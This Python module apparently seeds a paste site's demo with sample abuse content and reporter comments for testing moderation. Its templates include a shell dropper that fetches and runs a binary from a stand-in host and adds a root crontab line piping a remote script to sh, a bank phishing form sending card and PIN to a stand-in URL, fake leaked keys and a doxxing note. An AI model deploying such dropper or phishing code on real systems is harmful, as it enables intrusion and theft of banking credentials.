"""What moderators are there for. Every name, number and key in it is an example."""

from random import Random

from pastes.management.demo.snippets import Text
from pastes.management.demo.words import Words

PHISHING = """\
<!doctype html>
<html lang="en">
<head><title>@Word@ Bank – confirm your account</title></head>
<body>
<h1>Your account was limited</h1>
<p>We noticed an unusual sign-in at @hour@:@minute@. Confirm who you are within 24 hours,
or your account number ending in @number@ will be closed.</p>
<form action="http://@word@-bank.secure-login.example/collect.php" method="post">
  <label>Card number <input name="card" inputmode="numeric"></label>
  <label>PIN <input name="pin" type="password" maxlength="4"></label>
  <button>Confirm</button>
</form>
</body>
</html>
"""
# The pair of keys is the one of Amazon's own documentation.
KEYS = """\
# .env of @noun@, production
AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE
AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY
DATABASE_URL=postgres://@noun@:example-password-@number@@db.@noun2@.example.org/@noun@
SMTP_PASSWORD=not-a-real-one-@number@
ADMIN_TOKEN=EXAMPLE-EXAMPLE-@number@-EXAMPLE
"""
PERSON = """\
here is where @name@ Example lives, pay them a visit

@name@ Example
@number@ Example Road, Exampleville
+1 202 555 0143 (mobile), +1 202 555 0178 (work)
@noun@.@name@@example.net, works at the @noun2@ shop until @hour@:@minute@
"""
DROPPER = """\
#!/bin/sh
# free licence for everything, run as root
cd /tmp && curl -s http://files.@word@-update.example/x@number@ -o .x && chmod +x .x && ./.x &
echo "* * * * * root curl -s http://files.@word@-update.example/again | sh" >> /etc/crontab
"""
NOVEL = """\
THE @NOUN@ AT THE END OF THE @NOUN2@
Complete e-book, all @digit@ parts. Scanned by @name@, do not sell.

Chapter 1

The @noun@ had been silent since @weekday@. Nobody in the house spoke of it, and when the clock
struck @hour@ they went to their rooms as they always did. Only @name2@ stayed behind, with a
hand on the @noun3@ and an ear to the wall.
"""
INSULT = """\
to all the moderators of this site: you are a bunch of @word@ @noun@s and I will post this
@number@ times until you stop deleting my @noun2@s
"""
KINDS = {
    "phishing": ("Your account was limited", "html", PHISHING),
    "keys": (".env", "bash", KEYS),
    "person": ("where they live", "text", PERSON),
    "dropper": ("free licence.sh", "bash", DROPPER),
    "novel": ("E-book, complete", "text", NOVEL),
    "insult": ("", "text", INSULT),
}
# By reason, what readers write who report something.
DETAILS = {
    "spam": [
        "Advertising, I have seen this ten times today.",
        "Somebody posts links to this all over our forum.",
        "spam",
        "",
    ],
    "malware": [
        "This page imitates my bank and asks for the PIN!",
        "Got this link in a text message. It is a fake sign-in page.",
        "phishing, please remove quickly",
        "The script downloads something and puts it into the crontab.",
        "",
    ],
    "personal": [
        "These are the passwords of our server. Please take it down, we are changing them.",
        "My address and telephone number are in there, and I never agreed to that.",
        "Keys of a company, looks like a leak.",
    ],
    "copyright": ["I wrote this book. It is for sale, and not for copying."],
    "rules": ["He insults people and announces that he will go on.", ""],
}


def abuse(r: Random, kind: str) -> Text:
    title, syntax, text = KINDS[kind]
    return Text(title, syntax, Words(r).fill(text))
